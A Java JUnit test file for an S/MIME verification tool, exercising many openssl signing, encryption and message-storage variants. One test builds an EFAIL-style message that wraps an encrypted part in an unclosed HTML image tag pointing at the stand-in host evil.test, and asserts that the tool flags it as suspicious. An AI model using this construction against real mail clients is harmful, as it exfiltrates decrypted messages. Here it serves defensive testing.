package org.siegel.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What openssl makes, in many of its ways, and the forms in which mail programs and people save it. */
class PeerMessageTest {

    private static final String WHO = " -from alice@example.test -to bob@example.test -subject Vertrag";

    @TempDir
    static Path folder;

    private static OpenSsl openSsl;

    @BeforeAll
    static void people() throws IOException {
        openSsl = new OpenSsl(folder);
        openSsl.person("alice", "alice@example.test", "rsa");
        openSsl.person("bob", "bob@example.test", "rsa");
        openSsl.person("carol", "alice@example.test", "ec");
        Files.writeString(folder.resolve("inner.txt"), "Content-Type: text/plain\r\n\r\nSigned by openssl.\r\n");
        openssl("cms -sign -in inner.txt -signer alice.pem -inkey alice.key -out clear.eml" + WHO);
        openssl("cms -sign -nodetach -in inner.txt -signer alice.pem -inkey alice.key -out opaque.eml" + WHO);
    }

    private static void openssl(String command) {
        openSsl.run(command.split(" "));
    }

    private static Cli.Said verified(String file, String... more) {
        List<String> options = new ArrayList<>(List.of("--trust", at("ca.pem"), "--crl", at("ca.crl")));
        options.addAll(List.of("--password-file", at("password"), "--key", at("bob.p12"), "--key", at("carol.p12")));
        options.addAll(List.of(more));
        return Cli.verify(options, at(file));
    }

    private static String at(String name) {
        return folder.resolve(name).toString();
    }

    private static byte[] bytes(String name) throws IOException {
        return Files.readAllBytes(folder.resolve(name));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cms -sign -md sha512",
                "cms -sign -md sha384 -nodetach",
                "cms -sign -keyid",
                "cms -sign -noattr",
                "cms -sign -nosmimecap -nodetach",
                "cms -sign -nocerts",
                "cms -sign -crlfeol",
                "cms -sign -nodetach -stream",
                "cms -sign -keyopt rsa_padding_mode:pss",
                "cms -sign -keyopt rsa_padding_mode:pss -md sha512 -nodetach",
                "cms -sign -keyopt rsa_padding_mode:pss -keyopt rsa_pss_saltlen:20",
                "cms -sign -receipt_request_from alice@example.test -receipt_request_to alice@example.test",
                "cms -sign -certfile ca.pem",
                "smime -sign",
                "smime -sign -nodetach",
                "smime -sign -noattr -md sha512",
                "smime -sign -crlfeol",
            })
    void everyWayInWhichOpensslSignsIsValid(String command) throws IOException {
        for (String who : List.of("alice", "carol")) {
            if (who.equals("carol") && command.contains("rsa_")) {
                continue;
            }
            openssl(command.replace(
                            "-sign", "-sign -in inner.txt -out m.eml -signer " + who + ".pem -inkey " + who + ".key")
                    + WHO);
            assertSound("m.eml", "--intermediate", at(who + ".pem"));
        }
    }

    private static void assertSound(String file, String... more) throws IOException {
        Cli.Said said = verified(file, more);
        assertThat(said.status()).as(said.shown()).isZero();
        byte[] message = bytes(file);
        Files.write(
                folder.resolve("lf.eml"), text(message).replace("\r\n", "\n").getBytes(StandardCharsets.ISO_8859_1));
        said = verified("lf.eml", more);
        assertThat(said.status()).as("LF: " + said.shown()).isZero();
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    @Test
    void twoSignersAreBothAsked() throws IOException {
        openssl(
                "cms -sign -in inner.txt -out two.eml -signer alice.pem -inkey alice.key -signer carol.pem -inkey carol.key"
                        + WHO);
        Cli.Said both = verified("two.eml");
        assertThat(both.status()).as(both.shown()).isZero();
        assertThat(both.json().get("signers")).hasSize(2);
        openssl("cms -sign -in inner.txt -out two.eml -signer alice.pem -inkey alice.key -signer bob.pem -inkey bob.key"
                + WHO);
        assertThat(verified("two.eml").code()).isEqualTo("sender-mismatch");
    }

    @Test
    void aSignersCertificateThatIsLeftOutMayBeTheTrustedOne() {
        openssl("cms -sign -nocerts -in inner.txt -out bare.eml -signer alice.pem -inkey alice.key" + WHO);
        assertThat(verified("bare.eml").code()).isEqualTo("signer-certificate-missing");
        Cli.Said said = Cli.verify("--trust", at("alice.pem"), "--no-revocation", at("bare.eml"));
        assertThat(said.status()).as(said.shown()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cms -encrypt -des3 |bob.pem",
                "cms -encrypt -aes128 |bob.pem",
                "cms -encrypt -aes-256-cbc |bob.pem",
                "cms -encrypt -aes-256-gcm |bob.pem",
                "cms -encrypt -aes-128-gcm |carol.pem",
                "cms -encrypt -keyid |bob.pem",
                "cms -encrypt -stream |bob.pem",
                "smime -encrypt -des3 |bob.pem",
                "smime -encrypt -aes192 |bob.pem",
                "cms -encrypt -recip bob.pem -keyopt rsa_padding_mode:oaep|",
                "cms -encrypt -recip bob.pem -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256|",
                "cms -encrypt -recip carol.pem|",
                "cms -encrypt -recip carol.pem -keyopt ecdh_kdf_md:sha256|",
                "cms -encrypt -aes-128-cbc -recip carol.pem -keyopt ecdh_cofactor_mode:1|",
                "cms -encrypt -aes128-wrap -recip carol.pem -aes256|",
                "cms -encrypt -recip carol.pem -recip bob.pem|",
            })
    void everyWayInWhichOpensslEncryptsIsOpened(String command) throws IOException {
        String[] halves = command.split("\\|", -1);
        openssl("cms -sign -in inner.txt -out signed.eml -signer alice.pem -inkey alice.key");
        openssl((halves[0].strip() + " -in signed.eml -out e.eml" + WHO + " " + halves[1]).strip());
        assertSound("e.eml");
        Cli.Said said = Cli.run(
                "smime",
                "decrypt",
                "--password-file",
                at("password"),
                "--key",
                at("bob.p12"),
                "--key",
                at("carol.p12"),
                "-o",
                at("d.eml"),
                at("e.eml"));
        assertThat(said.status()).as(said.shown()).isZero();
        assertThat(text(bytes("d.eml"))).contains("Signed by openssl.");
        assertThat(verified("d.eml").verdict()).isEqualTo("valid");
        Cli.Said closed = Cli.verify("--trust", at("ca.pem"), at("e.eml"));
        assertThat(closed.status()).isEqualTo(1);
        assertThat(closed.code()).isEqualTo("encrypted");
        assertThat(closed.json().at("/encryption/opened").asBoolean()).isFalse();
    }

    @Test
    void oldRc2IsOpened() throws IOException {
        openssl("smime -encrypt -provider legacy -provider default -rc2-40 -in inner.txt -out rc2.eml" + WHO
                + " bob.pem");
        Cli.Said said = verified("rc2.eml");
        assertThat(said.verdict()).as(said.shown()).isEqualTo("unsigned");
        assertThat(said.json().at("/encryption/opened").asBoolean()).isTrue();
    }

    @Test
    void everyFormInWhichAMessageIsSavedIsRead() throws IOException {
        for (String name : List.of("clear.eml", "opaque.eml")) {
            String message = text(bytes(name)).replace("\r\n", "\n");
            saved("\u00ef\u00bb\u00bf" + message);
            saved("\n\r\n" + message);
            saved("From alice@example.test Tue Nov 24 03:00:00 2026\n" + message);
            saved(message.stripTrailing());
            saved(message + "\n\n\n");
            saved(message.replaceFirst("From: ", "X-Long: a\n\tb\nfrom: "));
            saved(message.replaceFirst("Content-Type:", "content-type :"));
        }
        String opaque = text(bytes("opaque.eml")).replace("\r\n", "\n");
        String head = "From: alice@example.test\nMIME-Version: 1.0\n";
        String base64 = opaque.substring(opaque.indexOf("\n\n") + 2);
        saved(head + "Content-Type: application/octet-stream; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n"
                + base64);
        saved(head + "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"smime.p7m\"\n"
                + "Content-Transfer-Encoding: base64\n\n" + base64);
        saved(head + "Content-Type: application/x-pkcs7-mime; name=smime.p7m\nContent-Transfer-Encoding: BASE64\n\n"
                + base64);
        saved(head
                + "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/pkcs7-mime; name=smime.p7m\n"
                + "Content-Transfer-Encoding: base64\n\n" + base64 + "\n--b--\n");
        byte[] der = Base64.getMimeDecoder().decode(base64);
        Files.write(
                folder.resolve("form.eml"),
                concatenated(
                        (head + "Content-Type: application/pkcs7-mime; smime-type=signed-data\n"
                                        + "Content-Transfer-Encoding: binary\n\n")
                                .getBytes(StandardCharsets.ISO_8859_1),
                        der));
        assertThat(verified("form.eml").status()).isZero();
    }

    private static byte[] concatenated(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static void saved(String message) throws IOException {
        Files.write(folder.resolve("form.eml"), message.getBytes(StandardCharsets.ISO_8859_1));
        Cli.Said said = verified("form.eml");
        assertThat(said.status())
                .as(message.substring(0, Math.min(300, message.length())) + said.shown())
                .isZero();
    }

    @Test
    void aCmsObjectWithoutAMessageIsRead() throws IOException {
        openssl("cms -sign -nodetach -outform DER -in inner.txt -out o.p7m -signer alice.pem -inkey alice.key");
        openssl("cms -sign -nodetach -outform PEM -in inner.txt -out o.pem -signer alice.pem -inkey alice.key");
        Files.writeString(folder.resolve("o.b64"), Base64.getMimeEncoder().encodeToString(bytes("o.p7m")));
        Files.writeString(folder.resolve("o.txt"), "Signed as follows\n\n" + text(bytes("o.pem")));
        for (String form : List.of("o.p7m", "o.pem", "o.b64", "o.txt")) {
            Cli.Said said = verified(form);
            assertThat(said.status()).as(form + said.shown()).isZero();
            assertThat(said.json().at("/signers/0/checks").toString()).contains("no-sender");
            assertThat(verified(form, "--require-sender").verdict()).isEqualTo("indeterminate");
        }
    }

    /** EFAIL (USENIX Security 2018): the parts around send what is decrypted to whoever wrote them. */
    @Test
    void anEncryptedPartWrappedInAnothersTextIsSuspicious() throws IOException {
        openssl("cms -sign -in inner.txt -out signed.eml -signer alice.pem -inkey alice.key");
        openssl("cms -encrypt -in signed.eml -out part.eml bob.pem");
        String part = text(bytes("part.eml"));
        Files.writeString(
                folder.resolve("efail.eml"),
                "From: alice@example.test\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                        + "Content-Type: text/html\n\n<img src=\"http://evil.test/\n--b\n"
                        + part.substring(part.indexOf("Content-"))
                        + "\n--b\nContent-Type: text/html\n\n\">\n--b--\n",
                StandardCharsets.ISO_8859_1);
        Cli.Said said = verified("efail.eml");
        assertThat(said.status()).as(said.shown()).isEqualTo(1);
        assertThat(said.verdict()).isNotEqualTo("valid");
        assertThat(said.json().at("/headers/suspicious")).isNotEmpty();
        assertThat(said.json().at("/encryption/opened").asBoolean()).isTrue();
    }

    @Test
    void anAddressInTheCommonNameAloneBindsNobody() {
        openSsl.person("boss@example.test", "eve@example.test", "ec");
        openssl("cms -sign -in inner.txt -out cn.eml -signer boss@example.test.pem -inkey boss@example.test.key"
                + " -from boss@example.test -to bob@example.test -subject x");
        assertThat(verified("cn.eml").code()).isEqualTo("sender-mismatch");
    }
}
